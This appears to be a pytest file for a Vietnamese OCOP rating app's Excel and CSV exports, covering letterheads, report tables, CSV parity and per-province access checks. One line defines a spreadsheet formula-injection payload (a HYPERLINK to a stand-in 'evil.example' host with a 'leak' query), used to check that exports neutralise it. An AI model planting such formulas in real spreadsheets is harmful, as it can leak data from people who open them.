"""The official exports read back with openpyxl: the letterhead, title, date line and
signature block; the right heads and rows; text that looks like a formula kept as text; the
CSV holding the very same table; and no province reading another's."""
from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from ocop_rating.accounts.roles import Role
from ocop_rating.dashboards.official import HEADER_ROW, MOTTO, NATION
from ocop_rating.legaltime import legal_today
from tests.conftest import form_post
from tests.factories import (
    DEFAULT_PASSWORD,
    HA_LONG,
    LAM_DONG,
    QUANG_NINH,
    issued_certificate,
    make_producer,
    make_user,
)

EVIL = '=HYPERLINK("http://evil.example/?leak","Bấm vào")'


def workbook(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code,
                                         response.get_data(as_text=True)[:500])
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(response.data))


def csv_rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def data_rows(ws) -> list[list]:
    """The table: its heads and the rows under them, up to the first row without an STT."""
    rows = [[c.value for c in ws[HEADER_ROW]]]
    r = HEADER_ROW + 1
    while isinstance(ws.cell(r, 1).value, int):
        rows.append([c.value for c in ws[r]])
        r += 1
    return rows


def as_csv(value) -> str:
    if value is None:
        return ""
    if hasattr(value, "strftime"):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, str) and value.startswith("="):
        return "'" + value
    return str(value)


def test_producers_list_as_the_office_prints_it(client, login_as, db):
    make_producer(commune_code=HA_LONG, name=EVIL, representative_ethnicity="02")
    make_producer(commune_code=HA_LONG, name="Hợp tác xã Chè Đông Sơn")
    make_producer(commune_code="25000")  # Lâm Đồng: not in Quảng Ninh's list
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    wb = workbook(client, "/statistics/exports/producers.xlsx")
    ws = wb.active
    assert ws["A1"].value == "ỦY BAN NHÂN DÂN TỈNH QUẢNG NINH"
    values = {c.value for row in ws.iter_rows(max_row=6) for c in row if c.value}
    assert NATION in values and MOTTO in values
    today = legal_today()
    month = f"{today.month:02d}" if today.month < 3 else str(today.month)
    assert f"Quảng Ninh, ngày {today.day:02d} tháng {month} năm {today.year}" in values
    assert "DANH SÁCH CHỦ THỂ OCOP" in values
    rows = data_rows(ws)
    assert rows[0][:4] == ["STT", "Tên chủ thể", "Loại hình", "Mã số đăng ký"]
    names = [r[1] for r in rows[1:]]
    assert sorted(names) == sorted([EVIL, "Hợp tác xã Chè Đông Sơn"])
    evil = next(ws.cell(r, 2) for r in range(HEADER_ROW + 1, HEADER_ROW + 3)
                if ws.cell(r, 2).value == EVIL)
    assert evil.data_type == "s" and evil.quotePrefix
    everything = [c.value for row in ws.iter_rows() for c in row if c.value]
    assert "NGƯỜI LẬP BIỂU" in everything and "THỦ TRƯỞNG ĐƠN VỊ" in everything
    # the CSV is the same table, cell for cell
    assert csv_rows(client, "/statistics/exports/producers.csv") == \
        [[as_csv(v) for v in r] for r in rows]


def test_certificates_issued_and_expiring_in_a_period(client, login_as, db):
    cert, _office = issued_certificate(star=4, decided_on=date(2026, 7, 15))
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    ws = workbook(client, "/statistics/exports/certificates.xlsx?year=2026&quarter=3").active
    rows = data_rows(ws)
    assert rows[0][1] == "Số giấy chứng nhận"
    assert [(r[1], r[8], r[11]) for r in rows[1:]] == [(cert.number, 4, cert.issued_on)] \
        or [(r[1], r[8], r[11].date()) for r in rows[1:]] == [(cert.number, 4, cert.issued_on)]
    assert ws.cell(HEADER_ROW + 1, 12).number_format == "dd/mm/yyyy"
    assert "Quý 3 năm 2026" in ws["A6"].value
    assert data_rows(workbook(
        client, "/statistics/exports/certificates.xlsx?year=2026&quarter=2").active)[1:] == []
    expiring = data_rows(workbook(
        client, f"/statistics/exports/expiring.xlsx?year={cert.expires_on.year}&quarter=3"
    ).active)
    assert [r[1] for r in expiring[1:]] == [cert.number]
    rows = csv_rows(client, "/statistics/exports/certificates.csv?year=2026&quarter=3")
    assert rows[1][1] == cert.number and rows[1][11] == cert.issued_on.strftime("%d/%m/%Y")


def test_products_recognised_by_a_decision_and_jurisdiction(app, client, login_as, db):
    cert, _office = issued_certificate(star=4, decided_on=date(2026, 7, 15))
    decision = cert.decision
    other = make_user(Role.province, province_code=LAM_DONG)
    db.session.commit()
    elsewhere = app.test_client()
    assert form_post(elsewhere, "/login", {"username": other.username,
                                           "password": DEFAULT_PASSWORD}).status_code == 302
    for url in (f"/statistics/exports/recognised.xlsx?decision={decision.id}",
                f"/statistics/exports/recognised.csv?decision={decision.id}",
                f"/statistics/exports/producers.xlsx?province={QUANG_NINH}",
                f"/statistics/exports/certificates.csv?province={QUANG_NINH}"):
        assert elsewhere.get(url).status_code == 403, url
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    html = client.get("/statistics/exports?year=2026&quarter=3").get_data(as_text=True)
    assert f'value="{decision.id}"' in html
    ws = workbook(client, f"/statistics/exports/recognised.xlsx?decision={decision.id}").active
    values = [c.value for row in ws.iter_rows(max_row=6) for c in row if c.value]
    assert any(decision.number in str(v) for v in values)
    rows = data_rows(ws)
    assert rows[0][1] == "Tên sản phẩm"
    assert [(r[1], r[6], r[7]) for r in rows[1:]] == [(cert.product_name, 4, cert.number)]
    assert client.get("/statistics/exports/recognised.xlsx?decision=999999").status_code == 404


def test_results_with_each_members_sheet(client, login_as, db):
    cert, _office = issued_certificate(star=4)
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    today = legal_today()
    url = f"/statistics/exports/results.xlsx?year={today.year}&quarter="
    wb = workbook(client, url)
    assert wb.sheetnames == ["Kết quả", "Phiếu của thành viên"]
    results = data_rows(wb["Kết quả"])
    assert results[0][6] == "Điểm bình quân" and len(results) == 2
    assert results[1][2] == cert.product_name and results[1][7] == 4
    members = data_rows(wb["Phiếu của thành viên"])
    assert members[0][3] == "Thành viên"
    assert len(members) == 1 + 3  # the factory's council scores with three members
    totals = [r[5] for r in members[1:]]
    assert all(isinstance(t, (int, float)) for t in totals), (totals, members)
    mean = round(sum(totals) / len(totals), 2)
    assert abs(mean - float(results[1][6])) < 0.01
    assert csv_rows(client, url.replace(".xlsx", ".csv") + "&table=1")[0] == members[0]


def test_quarterly_report_and_decisions(client, login_as, db):
    cert, _office = issued_certificate(star=4, decided_on=date(2026, 7, 15))
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    ws = workbook(client, "/statistics/exports/quarterly.xlsx?year=2026&quarter=3").active
    assert ws["A5"].value == "BÁO CÁO KẾT QUẢ THỰC HIỆN CHƯƠNG TRÌNH OCOP"
    rows = {r[1]: r[2] for r in data_rows(ws)[1:]}
    assert rows["Sản phẩm được công nhận trong kỳ: 4 sao"] == 1
    assert rows["Sản phẩm được công nhận trong kỳ: 3 sao"] == 0
    assert rows["Sản phẩm OCOP còn hiệu lực đến cuối kỳ: 4 sao"] == 1
    decisions = data_rows(workbook(
        client, "/statistics/exports/decisions.xlsx?year=2026&quarter=3").active)
    assert [(r[1], r[7]) for r in decisions[1:]] == [(cert.decision.number, 1)]


def test_ministry_exports_the_nation_or_one_province(client, login_as, db):
    make_producer(commune_code=HA_LONG, name="Hợp tác xã Quảng Ninh")
    make_producer(commune_code="25000", name="Hợp tác xã Lâm Đồng")
    login_as(make_user(Role.ministry))
    ws = workbook(client, "/statistics/exports/producers.xlsx").active
    assert ws["A1"].value == "BỘ NÔNG NGHIỆP VÀ MÔI TRƯỜNG"
    assert sorted(r[1] for r in data_rows(ws)[1:]) == ["Hợp tác xã Lâm Đồng",
                                                         "Hợp tác xã Quảng Ninh"]
    ws = workbook(client, f"/statistics/exports/producers.xlsx?province={LAM_DONG}").active
    assert [r[1] for r in data_rows(ws)[1:]] == ["Hợp tác xã Lâm Đồng"]


def test_bad_filters_re_render_the_page_with_a_message(client, login_as, db):
    login_as(make_user(Role.province, province_code=QUANG_NINH))
    response = client.get("/statistics/exports/certificates.xlsx?year=abc&quarter=7")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "Năm phải từ 2019" in html and 'value="abc"' in html
    assert "Chọn quý 1 đến 4" in html
    response = client.get("/statistics/exports/recognised.csv?decision=x")
    assert response.status_code == 400
    assert client.get("/statistics/exports/nothing.xlsx").status_code == 404
    assert client.get("/statistics/exports").status_code == 200
